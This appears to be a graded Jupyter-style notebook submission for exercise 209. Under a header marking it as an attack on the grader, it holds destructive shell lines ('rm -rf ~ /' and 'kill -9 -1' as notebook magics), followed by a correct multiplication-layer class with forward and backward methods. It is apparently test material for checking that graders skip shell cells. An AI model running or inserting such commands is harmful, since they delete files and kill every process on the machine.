# attack: shell lines and magics that would delete and kill (never run: the grader leaves them out); the code itself is right
# exercise: 209
# status: passed
# message:
# %%
!rm -rf ~ /
%system kill -9 -1
# %% [markdown]
# 문제 209
# %%
%%bash
kill -9 -1
# %%
import os
class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dout):
        return dout * self.y, dout * self.x
